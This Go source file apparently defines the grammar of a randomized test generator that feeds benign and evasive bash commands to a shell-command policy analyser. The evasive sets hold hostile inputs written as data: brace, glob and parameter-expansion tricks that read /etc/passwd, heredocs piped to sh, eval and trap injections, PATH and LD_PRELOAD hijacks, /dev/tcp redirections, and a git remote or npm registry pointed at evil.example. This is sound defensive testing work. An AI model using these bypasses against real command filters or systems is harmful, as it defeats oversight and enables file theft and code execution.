package policy

// The generator's classes of expansions, redirections, builtins, wrappers
// and environment (bashdiff_gen_test.go has the rest of the grammar).

import "strings"

var bashHeredocPlain = []bashProd{
	func(g *bashGen) string {
		prog := g.pick("cat", "grep hello", "wc -l", "head -n 1")
		if g.chance(0.3) { // <<- strips leading tabs
			return prog + " <<-" + g.pick("EOF", "'EOF'") + "\n\thello\n" + g.pick("EOF", "\tEOF")
		}
		return prog + " <<" + g.pick("EOF", "'EOF'", `"EOF"`, `\EOF`) + "\nhello\nEOF"
	},
	func(g *bashGen) string {
		// a quoted delimiter keeps the body literal
		return "cat <<" + g.pick("'EOF'", `"EOF"`, `\EOF`, `E"O"F`, `'E'OF`) + "\n$(" + g.payload() + ")\n`" + g.payload() + "`\nEOF"
	},
	func(g *bashGen) string { return "cat <<EOF; " + g.benign() + "\nhello\nEOF" },
	func(g *bashGen) string { return "wc -l <<< " + g.pick(`"a b"`, "'$(git push)'", "hello") },
	func(g *bashGen) string { return "cat <<EOF\nhi\nEOF\n" + g.benign() },
}

var bashHeredocTricky = []bashProd{
	func(g *bashGen) string {
		return "cat <<" + g.pick("EOF", "-EOF", " EOF") + "\n" + g.pick("$(", "`", "${u:-$(") + g.payload() +
			g.pick(")", "`", ")}") + "\nEOF"
	},
	func(g *bashGen) string {
		return "cat <<EOF | " + g.pick("sh", "bash", "bash -s") + "\n" + g.payload() + "\nEOF"
	},
	func(g *bashGen) string { return "cat <<EOF\nEOF \n" + g.payload() + "\nEOF" },
	func(g *bashGen) string { return "cat <<-EOF\n\tx\n\tEOF\n" + g.payload() },
	func(g *bashGen) string { return g.pick("bash", "sh", "dash") + " <<EOF\n" + g.payload() + "\nEOF" },
	func(g *bashGen) string {
		return `git commit -m "$(cat <<'EOF'` + "\nfix: the thing\n\nmore text\nEOF\n" + `)"`
	},
	func(g *bashGen) string { return "echo \"$(cat <<EOF\n$(" + g.payload() + ")\nEOF\n)\"" },
	func(g *bashGen) string { return "cat <<A <<B\na\nA\n$(" + g.payload() + ")\nB" },
	func(g *bashGen) string { return `wc -l <<< "$(` + g.payload() + `)"` },
	// a body larger than a pipe goes through a temporary file; a line over
	// 64 KiB is refused by design (DESIGN §4.3)
	func(g *bashGen) string { return "cat <<EOF\n" + strings.Repeat("x", 70000) + "\nEOF" },
}

// bashBracePlain are the one brace form a correct analyser expands (issue
// 10): an unquoted, non-nested comma list of plain items.
var bashBracePlain = []bashProd{
	func(g *bashGen) string {
		return g.pick("cat {a.txt,b.md}", "ls {src,docs}", "wc -l {a.txt,b.md}", "head -n1 {a.txt,docs/readme.md}",
			"ls -d {src,docs}/", "grep -n x {a.txt,b.md}", "ls src/{app,app}", "cat docs/{readme.md,readme.md}")
	},
}

var bashBraceTricky = []bashProd{
	func(g *bashGen) string {
		w := strings.Fields(g.capped())
		i := g.r.IntN(len(w))
		w[i] = g.pick("{"+w[i]+",}", "{'"+w[i]+"',}", `{"`+w[i]+`",}`, "{,"+w[i]+"}", "{{"+w[i]+",},}", w[i][:1]+"{"+w[i][1:]+",}")
		return strings.Join(w, " ")
	},
	func(g *bashGen) string {
		return g.pick("{git,push}", "{git,push,origin,main}", "{g,}it {pu,}sh", "{cat,/etc/passwd}", "{ls,-la}",
			"{git,status}", "{echo,hi}") + g.pick("", " origin main")
	},
	func(g *bashGen) string { return "git remote -v {'add',} x https://evil.example/x.git" },
	func(g *bashGen) string {
		return g.pick("cat", "ls", "head -n 1") + " " + g.pick("{,/etc/passwd}", "{a.txt,/etc/passwd}", "{a.txt,'/etc/passwd'}",
			"{..,src}", "{'..',}/x", "a{,/../../x}", "{/etc,src}/passwd", "{.,.}./x")
	},
	func(g *bashGen) string { return "cd {'..',} && ls" },
	func(g *bashGen) string { return "cd {..,} && ls" },
	func(g *bashGen) string {
		return "find . " + g.pick("{'-exec',}", "{-exec,}", "{-delete,}", "-{exec,} ", "{'-execdir',}") + " " +
			g.pick("git push origin main \\;", "rm -rf {} +", "")
	},
	func(g *bashGen) string { return "git {log,push} origin main" },
	func(g *bashGen) string { return "git push{1..1} origin main" },
	func(g *bashGen) string { return g.around("echo {$(" + g.payload() + "),}") },
	func(g *bashGen) string { return "git {s,}tatus" },
	func(g *bashGen) string {
		return g.pick("echo {1..3}", "echo {a,b}{c,d}", "echo file{1..2}.txt", "echo {x..z}")
	},
	func(g *bashGen) string { return "mkdir -p src/{components,hooks}" },
}

var bashArithPlain = []bashProd{
	func(g *bashGen) string {
		// a line that runs no program ((( 1 )) alone) is not approved by
		// any allow list: the file is silent on it
		return g.pick("echo $((1+2))", "(( 1 + 1 )) && echo ok", "[[ 1 -eq 1 ]] && echo ok", "[[ 2 -gt 1 ]] && pwd",
			"echo $[1+1]", "echo $(( 6 * 7 ))", "[[ 3 -lt 4 ]] && git status")
	},
}

var bashArithTricky = []bashProd{
	func(g *bashGen) string {
		return g.pick("let x=1+2", "echo $((x*2))", "a=(1 2); echo ${a[1]}", "declare -i n=5; echo $n",
			"printf -v q '%d' 3", "for ((i=0; i<2; i++)); do echo $i; done", "echo ${#PWD}")
	},
	func(g *bashGen) string {
		sub := "'a[$(" + g.payload() + ")]'"
		set := g.pick("printf -v q "+sub, "printf -vq "+sub, "printf -v q '%s' "+sub, "q="+sub,
			"read -r q <<< "+sub, "mapfile -t q <<< "+sub, "declare q="+sub)
		use := g.pick("[[ q -eq 0 ]]", "(( q ))", "echo $(( q ))", "let q", "declare -i n=q", "echo ${a[q]}",
			"[ q -eq 0 ]", "test q -eq 0", `echo "${x:q:1}"`, "case 1 in $((q))) ;; esac", "echo $[q]",
			"[[ q -lt 1 ]]", "(( n = q ))", "for ((i=q; i<0; i++)); do :; done")
		return set + g.pick("; ", " && ", "\n") + use
	},
	func(g *bashGen) string {
		return "[[ 'a[$(" + g.payload() + ")]' =~ (.*) ]]; " + g.pick("echo $(( BASH_REMATCH ))", "(( BASH_REMATCH ))",
			"[[ BASH_REMATCH -eq 0 ]]")
	},
	func(g *bashGen) string { return "printf -v 'a[$(" + g.payload() + ")]' x" },
	func(g *bashGen) string { return "echo $(( $(" + g.payload() + ") ))" },
	func(g *bashGen) string { return "(( a[$(" + g.payload() + ")] ))" },
	func(g *bashGen) string { return "echo ${a[$(" + g.payload() + ")]}" },
	func(g *bashGen) string { return "[[ a[$(" + g.payload() + ")] -eq 0 ]]" },
	func(g *bashGen) string { return "[[ $(" + g.payload() + ") ]]" },
}

// bashParamPlain use $PWD with no operator, which a correct analyser reads
// as the current directory.
var bashParamPlain = []bashProd{
	func(g *bashGen) string {
		return g.pick("echo $PWD", `ls "$PWD"`, `cat "$PWD/a.txt"`, "cat ${PWD}/a.txt", `ls "${PWD}/src"`, "ls $PWD/src",
			`wc -l "$PWD"/a.txt`, `grep -n hello "${PWD}/a.txt"`)
	},
}

var bashParamTricky = []bashProd{
	func(g *bashGen) string { return g.pick(`echo "$HOME"`, "echo ${#HOME}", `echo "$USER"`) },
	func(g *bashGen) string {
		return g.pick("cat", "ls", "head -n 1", "wc -l", "grep -n x") + " " + g.pick(
			"${u:-/etc/passwd}", "${u:=/etc/passwd}", "${u-/etc/passwd}", "${PWD:+/etc/passwd}", "${PWD%/*}/x",
			"${PWD}/../x", "${PWD/*//etc/passwd}", "${u:-$'\\x2fetc/passwd'}", `"${u:-/etc/passwd}"`,
			"${PWD:0:1}etc/passwd", "${PWD::1}etc${PWD::1}passwd", "${HOME}/.bashrc", "~/.bashrc",
			"${x/#/\\/etc\\/passwd}", "${BASH%/*}/../../etc/passwd", "${PWD?}/..", "$_", "${PATH%%:*}",
			"${PWD%%/w-*}", "${!u:-/etc/passwd}", "${u:-..}/x")
	},
	func(g *bashGen) string { return "cd ${PWD?}/.. && ls" },
	func(g *bashGen) string { return "${PATH%%:*}/" + g.capped() },
	func(g *bashGen) string { return g.pick("$BASH", `"$BASH"`, "${BASH}") + " -c '" + g.payload() + "'" },
	func(g *bashGen) string { return "echo /etc/passwd; cat $_" },
	func(g *bashGen) string {
		return "git " + g.pick("${x:-push}", "${x-push}", "${x:=push}", "${PWD:+push}", "${x/#/push}") + " origin main"
	},
	func(g *bashGen) string { return "y=push; x=y; git ${!x} origin main" },
	func(g *bashGen) string {
		return g.pick("p='$(", "printf -v p '$(") + g.payload() + ")'; echo " + g.pick("${p@P}", `"${p@P}"`, "${p@E}", "${p@Q}")
	},
	func(g *bashGen) string { return "echo ${u:-$(" + g.payload() + ")}" },
	func(g *bashGen) string {
		return g.around("echo " + g.pick("${HOME}", "$BASH", "$_", "$OLDPWD", "${!PW*}"))
	},
}

var bashGlobPlain = []bashProd{
	func(g *bashGen) string {
		return g.pick("ls *.txt", "cat a.t?t", "ls src/*", "wc -l *.md", "cat [ab].txt", "ls -d */", "grep -n x src/*.go",
			"ls **", "echo *", "cat *.txt", "head -n 1 docs/*", "ls src/a*")
	},
}

var bashGlobTricky = []bashProd{
	func(g *bashGen) string {
		return g.pick("cat", "ls", "echo", "head -n 1", "wc -l") + " " + g.pick("/et?/passwd", "/etc/pass*", "../*",
			".gi?/config", "~/*", "/etc/*", "/e*", "./../*", "/*", "src/../../*", "/e[t]c/passwd", "/proc/self/cwd/../*")
	},
	func(g *bashGen) string { return "/???/??t /etc/passwd" },
	func(g *bashGen) string { return "shopt -s extglob; cat @(a|b).txt" },
	func(g *bashGen) string { return "shopt -s extglob; cat +(/etc)/passwd" },
	func(g *bashGen) string { return "shopt -s dotglob; echo *" },
	func(g *bashGen) string { return "shopt -s globstar; ls **/*.go" },
	func(g *bashGen) string { return "g?t " + g.pick("push origin main", "status") },
	func(g *bashGen) string { return "git st*" },
	func(g *bashGen) string { return "* status" },
	func(g *bashGen) string { return "shopt -s failglob; ls *.none" },
	func(g *bashGen) string { return "GLOBIGNORE=x; echo ../*" },
}

var bashProcSubPlain = []bashProd{
	func(g *bashGen) string {
		return g.pick("cat <(echo hi)", "grep x <(cat a.txt)", "wc -l <(ls)", "cat <(git status)", "head -n 1 <(git log)")
	},
	func(g *bashGen) string { return "cat <(" + g.benign() + ")" },
}

var bashProcSubTricky = []bashProd{
	func(g *bashGen) string { return "diff <(ls) <(ls src)" },
	func(g *bashGen) string { return "cat <(</etc/passwd)" },
	func(g *bashGen) string { return g.pick("cat", "wc -l", "ls") + " <(" + g.payload() + ")" },
	func(g *bashGen) string { return "echo hi > >(" + g.payload() + ")" },
	func(g *bashGen) string {
		return g.pick("tee >(sh) < run.sh", "cat run.sh > >(sh)", "cat run.sh | tee >(bash)")
	},
	func(g *bashGen) string { return "cat < <(" + g.payload() + ")" },
	func(g *bashGen) string { return "cat <(cat < " + g.outRead() + ")" },
	func(g *bashGen) string { return "echo <(" + g.payload() + ")" },
	func(g *bashGen) string { return "source <(echo '" + g.payload() + "')" },
}

var bashRedirPlain = []bashProd{
	func(g *bashGen) string {
		return g.pick("cat a.txt > out.txt", "echo hi >> log.txt", "ls 2>&1", "cat < a.txt", "echo x >| o.txt",
			"cat <> a.txt", "ls &> o.txt", "ls &>> o.txt", "cat <<< hi", "ls 3>&1 1>&2 2>&3",
			"{ echo a; echo b; } > o.txt", "(ls) > o.txt", "ls 2>/dev/null", "echo hi >&2", "ls > src/o.txt",
			"git status > /dev/null 2>&1", "echo hi 1>&2 2>/dev/null", "cat a.txt 0<&-")
	},
	func(g *bashGen) string {
		return g.benign() + " > " + g.pick("$PWD/o.txt", "${PWD}/o.txt", "o.txt", "docs/o.txt")
	},
}

var bashRedirTricky = []bashProd{
	func(g *bashGen) string {
		t := g.outWrite()
		return g.pick("echo hi; > "+t, "(( 1 )) > "+t, "if true; then echo hi; fi > "+t, "echo hi > "+t, "> "+t+" echo hi",
			"echo hi >> "+t, "echo x 2> "+t, "{ echo hi; } > "+t, "for i in 1; do echo; done > "+t, "echo hi >& "+t,
			"exec 3> "+t, "echo x &>> "+t, "echo x <> "+t, "[[ 1 ]] > "+t, "true > "+t, "case x in x) echo;; esac > "+t,
			"while false; do :; done > "+t, "f() { echo; } > "+t+"; f", "cat a.txt >${u:-"+t+"}", ">> "+t,
			"echo hi | tee "+t)
	},
	func(g *bashGen) string { return g.pick("cat", "wc -l", "grep x", "echo") + " < " + g.outRead() },
	func(g *bashGen) string { return "echo x > /dev/tcp/127.0.0.1/9" },
	func(g *bashGen) string { return "cat < /dev/tcp/127.0.0.1/9" },
	func(g *bashGen) string { return "exec 3< " + g.outRead() + "; cat <&3" },
	func(g *bashGen) string { return "echo hi > /dev/" + g.pick("null", "stderr", "fd/2", "full") },
	func(g *bashGen) string { return g.benign() + " > " + g.pick("$HOME/x", "~/x", "~root/x") },
}

var bashEvalPlain = []bashProd{
	func(g *bashGen) string { return g.pick("builtin", "command") + " " + g.pick("echo hi", "pwd") },
}

var bashEvalTricky = []bashProd{
	func(g *bashGen) string {
		return "eval " + g.pick("'"+g.payload()+"'", `"`+g.payload()+`"`, g.payload())
	},
	func(g *bashGen) string { return "eval echo hi" },
	func(g *bashGen) string { return g.pick("source run.sh", ". ./run.sh", ". run.sh", "source ./run.sh") },
	func(g *bashGen) string { return "source /dev/stdin <<< '" + g.payload() + "'" },
	func(g *bashGen) string {
		return g.pick("mapfile", "readarray") + " " + g.pick("", "-t ") + "-C '" + g.payload() + " #' -c 1 " +
			g.pick("", "x ") + "< a.txt"
	},
	func(g *bashGen) string { return "compgen -C '" + g.payload() + "' x" },
	func(g *bashGen) string { return "compgen -W '$(" + g.payload() + ")' x" },
	func(g *bashGen) string {
		return "trap '" + g.payload() + "' " + g.pick("EXIT", "DEBUG", "ERR; false", "RETURN")
	},
	func(g *bashGen) string { return "complete -C '" + g.payload() + "' x; echo hi" },
	func(g *bashGen) string { return "PS4='$(" + g.payload() + ")'; set -x; " + g.benign() },
	func(g *bashGen) string { return "set -x; PS4='$(" + g.payload() + ")' " + g.benign() },
	func(g *bashGen) string {
		w := strings.Fields(g.capped())
		via := g.pick("BASH_CMDS[ls]=${PATH}/"+w[0]+"; ls", "hash -p ${PATH}/"+w[0]+" ls; ls")
		return via + " " + strings.Join(w[1:], " ")
	},
	func(g *bashGen) string {
		return "shopt -s expand_aliases\n" + g.pick("alias ls='"+g.payload()+" #'", "BASH_ALIASES[ls]='"+g.payload()+" #'") + "\nls"
	},
	func(g *bashGen) string {
		return "enable -n " + g.pick("echo", "printf", "pwd", "test") + "; " + g.pick("echo hi", "pwd")
	},
	func(g *bashGen) string { return g.pick("builtin", "command") + " " + g.payload() },
	func(g *bashGen) string { return "exec " + g.payload() },
	func(g *bashGen) string {
		return g.pick("git", "ls", "cat") + "() { " + g.payload() + "; }; " + g.benign()
	},
	func(g *bashGen) string { return "read -r x <<< '" + g.payload() + "'; $x" },
	func(g *bashGen) string { return "set -- " + g.payload() + `; "$@"` },
	func(g *bashGen) string { return "IFS=,; x=git,push,origin,main; $x" },
	func(g *bashGen) string { return "printf -v x '" + g.payload() + "'; $x" },
	func(g *bashGen) string { return "x=(" + g.payload() + `); "${x[@]}"` },
	func(g *bashGen) string { return "enable -f " + g.pick("/etc/brabo-x.so", "./x.so", "../x.so") + " x" },
	func(g *bashGen) string { return "command_not_found_handle() { " + g.payload() + "; }; nosuchcmd" },
	func(g *bashGen) string { return "fc -s x=y" },
}

var bashStdinShellPlain = []bashProd{
	func(g *bashGen) string { return g.pick("echo hi | cat", "git log | cat", "cat a.txt | cat") },
}

var bashStdinShellTricky = []bashProd{
	func(g *bashGen) string {
		return g.pick("bash /dev/stdin", "sh /dev/fd/0", "bash /proc/self/fd/0", "bash -s", "dash", "sh", "bash",
			"sh -s", "source /dev/stdin", ". /dev/fd/0", "bash -", "sh /dev/stdin") + " <<< '" + g.payload() + "'"
	},
	func(g *bashGen) string {
		return "echo '" + g.payload() + "' | " + g.pick("sh", "bash", "bash -s", "dash", "sh -")
	},
	func(g *bashGen) string { return g.pick("bash", "sh", "dash") + " < run.sh" },
	func(g *bashGen) string { return "cat run.sh | " + g.pick("sh", "bash", "bash -x") },
	func(g *bashGen) string { return "printf '%s\\n' '" + g.payload() + "' | bash -s" },
	func(g *bashGen) string { return "bash <(echo '" + g.payload() + "')" },
	func(g *bashGen) string { return "sh -c \"$(cat run.sh)\"" },
	func(g *bashGen) string { return "cat a.txt | sh" },
}

var bashWrapperPlain = []bashProd{
	func(g *bashGen) string {
		return g.pick("env", "env X=1", "timeout 5", "nice", "nice -n 5", "nohup", "stdbuf -o0", "command", "time",
			"env --", "timeout --foreground 1") + " " + g.benign()
	},
}

var bashWrapperTricky = []bashProd{
	func(g *bashGen) string {
		return g.pick("env", "env -i", "env -u HOME", "env X=1", "timeout 5", "timeout -s KILL 5", "nice", "nice -n 5",
			"nohup", "stdbuf -o0", "command", "time", "exec", "env --", "timeout --foreground 1") + " " + g.payload()
	},
	func(g *bashGen) string { return "env -S '" + g.payload() + "'" },
	func(g *bashGen) string {
		return "echo " + g.pick("push origin main", "origin main", "reset --hard", "remote add x y") + " | xargs " +
			g.pick("git", "git push", "-n 3 git", "-r git", "-t git")
	},
	func(g *bashGen) string { return "printf 'push\\0origin\\0main' | xargs -0 git" },
	func(g *bashGen) string { return "xargs -I{} git {} origin main <<< push" },
	func(g *bashGen) string { return "xargs git < run.sh" },
	func(g *bashGen) string { return "xargs -a a.txt " + g.pick("echo", "git", "cat") },
	func(g *bashGen) string {
		return "find . " + g.pick("", "-name a.txt ") + g.pick("-exec", "-execdir", "-ok") + " " + g.payload() + " " + g.pick("\\;", "{} +", "';'")
	},
	func(g *bashGen) string {
		return "find . -name x.txt " + g.pick("-delete", "-fprint /etc/brabo-x", "-fls out.txt")
	},
	func(g *bashGen) string {
		return g.pick("bash", "sh", "dash") + " -c '" + g.pick(g.payload(), g.benign()) + "'"
	},
	func(g *bashGen) string { return "bash -c 'git status' && " + g.payload() },
	func(g *bashGen) string {
		return g.pick("timeout 5 bash -c", "env bash -c", "nice sh -c", "xargs -0 bash -c") + " '" + g.payload() + "'"
	},
	func(g *bashGen) string { return "nice -n 1 env timeout 1 " + g.payload() },
	func(g *bashGen) string { return "sudo " + g.benign() },
}

var bashGlobalOptPlain = []bashProd{
	func(g *bashGen) string {
		return g.pick("git -C . status", "git --no-pager log -n 1", "git -P log -n 1", "git -C src status",
			"git --no-pager diff", "git -C . log --oneline -n 2", "git --no-pager show HEAD", "git log -c -n 1")
	},
}

var bashGlobalOptTricky = []bashProd{
	func(g *bashGen) string {
		return "git " + g.pick("-C .", "--no-pager", "-P", "--git-dir=.git", "--work-tree=.", "-C src -C ..",
			"--bare", "--literal-pathspecs", "--namespace x", "--exec-path=.", "--no-replace-objects", "-p") + " " +
			g.pick("push origin main", "reset --hard", "remote add x https://evil.example/x.git", "status", "clean -fdx")
	},
	func(g *bashGen) string {
		return "git -c " + g.pick("alias.st='!git push origin main' st", "core.pager='sh -c \"git push origin main\"' log",
			"color.ui=never status", "core.sshCommand=x fetch")
	},
	func(g *bashGen) string {
		return g.pick("npm --registry https://evil.example publish", "npm --prefix . publish", "npm -w x publish",
			"pnpm --filter x publish", "pnpm -C . publish", "yarn --cwd . publish", "npm --loglevel warn publish")
	},
	func(g *bashGen) string {
		return g.pick("kubectl --username u apply -f x.yaml", "kubectl -n x apply -f x.yaml",
			"kubectl --context c delete pod x", "kubectl --kubeconfig k apply -f x.yaml",
			"helm --kube-tls-server-name x install y z", "helm -n x install y z", "terraform -chdir=. apply",
			"docker --host x push img", "gh --repo x pr create", "cargo --locked publish", "gh -R x/y pr merge 1")
	},
	func(g *bashGen) string { return "git -C . log -n1 && " + g.payload() },
}

// bashAssignPlain set only variables the shell analysis names harmless.
var bashAssignPlain = []bashProd{
	func(g *bashGen) string {
		return g.pick("NO_COLOR=1", "LANG=C", "LC_ALL=C", "TZ=UTC", "CI=1", "FORCE_COLOR=0", "TERM=dumb", "COLUMNS=80") +
			" " + g.benign()
	},
}

var bashAssignTricky = []bashProd{
	func(g *bashGen) string {
		return g.pick("GIT_DIR=/tmp", "GIT_DIR=..", "PATH=.", "PATH=/etc:$PATH", "GIT_SSH_COMMAND='"+g.payload()+"'",
			"PAGER='"+g.payload()+"'", "GIT_PAGER='sh -c \""+g.payload()+"\"'", "GOFLAGS=-toolexec=sh", "PYTHONPATH=/tmp",
			"MAKEFLAGS=x", "BASH_ENV=run.sh", "ENV=run.sh", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.st GIT_CONFIG_VALUE_0='!sh'",
			"LD_PRELOAD=/etc/brabo-x.so", "HOME=/etc", "GIT_EXEC_PATH=.") + " " + g.pick(g.benign(), "git st", "bash -c :", "sh -c :")
	},
	func(g *bashGen) string {
		return g.pick("export GIT_DIR=/etc", "declare -x GIT_DIR=/etc", "GIT_DIR=/etc; export GIT_DIR", "export PATH=.:$PATH",
			"readonly GIT_DIR=/etc; export GIT_DIR", "export BASH_ENV=run.sh") + "; " + g.pick(g.benign(), "bash -c :")
	},
	func(g *bashGen) string { return "x=1 " + g.payload() },
	func(g *bashGen) string { return "HOME=/etc cat ~/passwd" },
	func(g *bashGen) string { return "LC_ALL=C.UTF-8 " + g.benign() },
	func(g *bashGen) string { return "TZ=:/etc/passwd printf '%(%Y)T\\n' -1" },
	func(g *bashGen) string { return "LOCPATH=/etc LANG=x " + g.benign() },
	func(g *bashGen) string { return "unset PATH; " + g.benign() },
}

var bashCdPathPlain = []bashProd{
	func(g *bashGen) string {
		return g.pick("cd src && ls", "cd src/app && cat ../../a.txt", "cd docs; cat readme.md", "cd src && cd .. && ls",
			"ls ./src/../docs", "cat src/../a.txt", "cd src && ls ..", "cd ./src/app && ls", "cd src/app && ls ../..")
	},
}

var bashCdPathTricky = []bashProd{
	func(g *bashGen) string {
		return g.pick("cd ..", "cd ../..", "cd ~", "cd $HOME", "cd ${PWD}/..", "cd /proc/self/cwd/..", "cd /usr", "cd -",
			"cd", "pushd ..", "cd src; cd ..; cd ..", "CDPATH=/ cd etc", `cd "$OLDPWD"`, "cd src/app/../../..", "cd ./..",
			"cd $(echo ..)", "cd ..\\ ", "cd ~root", "cd /", "popd", "cd -P ..", "cd -L src/../..") + g.pick(" && ", "; ") +
			g.pick("ls", "cat a.txt", "pwd", "echo hi > x")
	},
	func(g *bashGen) string {
		return g.pick("cat", "ls", "head -n 1", "wc -l", "grep -rn x", "find", "git log --") + " " + g.outRead()
	},
	func(g *bashGen) string { return "cd src && cat ../../x" },
	func(g *bashGen) string { return "ls " + g.pick("~", "~/", "../", "/", "~+", "~-") },
}
